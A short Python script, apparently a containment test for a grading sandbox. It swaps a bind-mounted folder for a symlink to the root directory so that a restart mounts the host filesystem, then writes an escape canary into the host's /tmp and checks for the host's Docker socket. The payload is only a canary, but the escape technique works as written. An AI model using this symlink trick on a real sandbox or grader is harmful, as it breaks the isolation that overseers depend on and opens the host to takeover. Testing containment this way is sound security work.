"""First run: swap ./mnt (bound at /mnt too) for a symlink to /, and exit so that a restart
mounts it again. Later runs: write the canary through /mnt into the host's /tmp."""
import os
import shutil
import sys
import time

if os.path.isdir("/mnt/tmp"):
    with open("/mnt/tmp/grader-escape-canary", "w") as canary:
        canary.write("escaped\n")
    print("escaped: wrote the canary; docker.sock there:", os.path.exists("/mnt/run/docker.sock"), flush=True)
    open("/sub/looked", "w").close()
    time.sleep(3600)
if not os.path.islink("/sub/mnt"):
    shutil.rmtree("/sub/mnt", ignore_errors=True)
    os.symlink("/", "/sub/mnt")
    print("swapped ./mnt for a symlink to /", flush=True)
    sys.exit(1)
print("contained: /mnt is still the folder it was", flush=True)
open("/sub/looked", "w").close()
time.sleep(3600)
